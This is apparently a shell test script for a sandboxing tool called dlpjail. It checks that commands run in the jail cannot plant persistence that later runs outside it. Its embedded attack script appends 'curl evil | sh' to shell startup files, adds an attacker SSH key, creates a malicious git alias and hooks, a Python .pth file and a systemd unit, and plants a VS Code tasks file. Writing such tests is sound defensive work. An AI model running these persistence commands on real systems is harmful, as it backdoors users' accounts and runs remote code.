#!/bin/sh
# 381-persist: the jail cannot plant what runs later outside it (branch
# redteam-egress2). Before: a build step could append to ~/.bashrc, create
# ~/.zshrc, add ~/.ssh/authorized_keys, a systemd user unit, a git alias
# or hook, and the user's next shell, login or commit ran it, unjailed,
# with every secret in reach. Now those that exist are read-only in the
# jail's mount namespace (EROFS), one the command creates is moved aside
# after the run (PATH.dlpjail-refused) with a "write" event and a stderr
# line; a `writable PATH` line in the user's own policy leaves one alone;
# without a mount namespace, changes are reported and creations moved
# aside. npm/git/node-gyp style writes elsewhere in the home still work.
. "$(dirname "$0")/lib.sh"

command -v git >/dev/null || skip "git not installed"
H="$T/home" P="$T/proj"
mkdir -p "$H/.ssh" "$H/.config" "$H/.npm" "$P"
echo '# user bashrc' > "$H/.bashrc"
echo 'ssh-ed25519 AAAA user@host' > "$H/.ssh/authorized_keys"
(cd "$P" && git init -q . && git config user.email t@t && git config user.name t) ||
	{ echo "git init failed"; exit 99; }
cp "$P/.git/config" "$T/gitconfig.before"
J="--no-default-policy --log $T/events.jsonl"
run() { (cd "$P" && HOME="$H" timeout 30 "$DLPJAIL" "$@") ; }
run $J -- true 2> "$T/probe.err"
grep -q "no private mount namespace" "$T/probe.err" && skip "no private mount namespace here"

cat > "$T/attack.sh" <<'SH'
echo 'curl evil | sh' >> ~/.bashrc
echo 'curl evil | sh' > ~/.zshrc
echo 'ssh-ed25519 EVIL attacker' >> ~/.ssh/authorized_keys
mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/x.service
git config --global alias.st '!curl evil | sh'
mkdir -p ~/.local/lib/python3.11/site-packages && echo 'import os; os.system("curl evil")' > ~/.local/lib/python3.11/site-packages/evil.pth
printf '#!/bin/sh\ncurl evil\n' > .git/hooks/post-checkout
git config core.hooksPath /tmp/evil-hooks
python3 -c '
import os
open(os.path.expanduser("~/.bashrc.new"), "w").write("evil\n")
try:
    os.rename(os.path.expanduser("~/.bashrc.new"), os.path.expanduser("~/.bashrc"))
except OSError as e:
    print("rename:", e)
try:
    os.rename(".git", ".git-old"); os.mkdir(".git"); print("moved .git")
except OSError as e:
    print("rename .git:", e)
'
echo ok > ~/.npm/cache-entry && mkdir -p ~/.cache/node-gyp && echo ok > ~/.cache/node-gyp/x
git clone -q "$PWD" "$HOME/clone" && echo cloned
SH
run $J -- sh "$T/attack.sh" > "$T/1.out" 2>&1
sed 's/^/# 1: /' "$T/1.out"
check "an existing ~/.bashrc: not appended to" sh -c "! grep -q evil '$H/.bashrc'"
check "...nor replaced by a rename" grep -q '^# user bashrc$' "$H/.bashrc"
check "~/.zshrc the command created: gone" test ! -e "$H/.zshrc"
check "...moved aside" grep -q "curl evil" "$H/.zshrc.dlpjail-refused"
check "...said on stderr" grep -q "created $H/.zshrc, which would run outside the jail" "$T/1.out"
check "...and evented (op write, rule persist)" event_has '"op":"write"' '"rule":"persist"' 'zshrc'
check "~/.ssh/authorized_keys: no key added" sh -c "! grep -q EVIL '$H/.ssh/authorized_keys'"
check "a systemd user unit: moved aside" sh -c "test ! -e '$H/.config/systemd' && test -e '$H/.config/systemd.dlpjail-refused'"
check "a git alias in a new ~/.gitconfig: moved aside" test ! -e "$H/.gitconfig"
check "a .pth in the user site-packages (runs in every python): moved aside" test ! -e "$H/.local/lib"
check "the project's .git/hooks: no hook planted" test ! -e "$P/.git/hooks/post-checkout"
check "the project's .git/config: unchanged" cmp -s "$P/.git/config" "$T/gitconfig.before"
check "...and .git not swapped for another" sh -c "test ! -e '$P/.git-old'"
check "npm's cache and node-gyp's ~/.cache: written" sh -c "test -s '$H/.npm/cache-entry' && test -s '$H/.cache/node-gyp/x'"
check "git clone into a new directory works (its own hooks)" test -d "$H/clone/.git/hooks"

# the user's own line leaves one writable; a project file's line does not
rm -f "$H/.zshrc.dlpjail-refused"
printf 'writable ~/.zshrc\n' > "$T/user.policy"
run -p "$T/user.policy" -- sh -c 'echo "# mine" > ~/.zshrc' > "$T/2.out" 2>&1
check "writable ~/.zshrc in the user's policy: the file stays" grep -q mine "$H/.zshrc"
rm -f "$H/.zshrc"
printf 'writable ~/.zshrc\n' > "$P/.dlpjail.policy"
run -- sh -c 'echo evil > ~/.zshrc' > "$T/3.out" 2>&1
check "...the same line in ./.dlpjail.policy: moved aside" test ! -e "$H/.zshrc"
rm -f "$P/.dlpjail.policy" "$P/.dlpjail.policy.dlpjail-refused" "$H/.zshrc.dlpjail-refused"

# hard links and renames between the home, ~/.local and the project work
# (pnpm's store in ~/.local/share/pnpm linked into node_modules: with the
# home, ~/.local and the project pinned as mount points of their own they
# got EXDEV, and pnpm downloaded every package again in each install)
mkdir -p "$H/.local/share/store" "$H/.cache"
echo blob > "$H/.local/share/store/f"
echo tmp > "$H/.cache/t"
run $J -- sh -c 'ln ~/.local/share/store/f ./linked && mv ~/.cache/t ./moved &&
	python3 -c "import os; os.rename(os.path.expanduser(\"~/.local/share/store/f\"), \"renamed\")" && echo ok' \
	> "$T/5.out" 2>&1
sed 's/^/# 5: /' "$T/5.out"
check "a hard link from ~/.local into the project works (pnpm's store)" \
	sh -c "grep -q '^ok$' '$T/5.out' && test \"\$(stat -c %h '$P/linked')\" = 2"
check "...and rename(2) from the home into the project" sh -c "test -s '$P/moved' && test -s '$P/renamed'"
rm -f "$P/linked" "$P/moved" "$P/renamed"
# ...so ~/.config, ~/.local and the project can be renamed away: what is
# planted in the directory put in their place is moved aside after the run
: > "$T/events.jsonl"
run $J -- sh -c 'mv ~/.config ~/.config-old && mkdir -p ~/.config/systemd/user &&
	echo "[Service]" > ~/.config/systemd/user/x.service &&
	mv ~/.local ~/.local-old && mkdir -p ~/.local/bin && echo evil > ~/.local/bin/git &&
	cd .. && mv proj proj-old && mkdir -p proj/.vscode && echo evil > proj/.vscode/tasks.json &&
	echo planted' > "$T/6.out" 2>&1
sed 's/^/# 6: /' "$T/6.out"
check "the renames went through (nothing pins those directories)" grep -q planted "$T/6.out"
check "...a unit planted in a new ~/.config: moved aside" \
	sh -c "test ! -e '$H/.config/systemd' && test -e '$H/.config/systemd.dlpjail-refused'"
check "...a command planted in a new ~/.local/bin: moved aside" test ! -e "$H/.local/bin"
check "...a task planted in a new project directory: moved aside" test ! -e "$P/.vscode/tasks.json"
check "...evented" event_has '"op":"write"' '"rule":"persist"'
rm -rf "$H/.config" "$H/.local" "$P" && mv "$H/.config-old" "$H/.config" &&
	mv "$H/.local-old" "$H/.local" && mv "$T/proj-old" "$P"

# without a mount namespace: reported, creations moved aside
: > "$T/events.jsonl"
DLPJAIL_NO_MOUNTNS=1 run $J -- sh -c 'echo evil >> ~/.bashrc; echo evil > ~/.profile' > "$T/4.out" 2>&1
sed 's/^/# 4: /' "$T/4.out"
check "no mount namespace: said at the start" grep -q "stay writable" "$T/4.out"
check "...a created ~/.profile is moved aside" test ! -e "$H/.profile"
check "...a changed ~/.bashrc is reported" event_has '"op":"write"' 'changed .*bashrc'
finish
